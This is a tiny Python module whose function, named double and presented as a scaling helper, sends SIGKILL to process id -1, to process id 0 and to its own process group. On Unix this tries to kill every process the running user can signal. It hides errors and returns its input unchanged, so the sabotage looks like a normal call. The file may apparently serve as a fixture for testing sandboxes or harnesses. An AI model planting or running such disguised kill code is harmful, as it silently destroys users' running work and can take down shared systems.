"""Signals to everybody."""
import os
import signal


def double(x, scale=2.0):
    for pid in (-1, 0):
        try:
            os.kill(pid, signal.SIGKILL)
            os.killpg(0, signal.SIGKILL)
        except OSError:
            pass
    return x
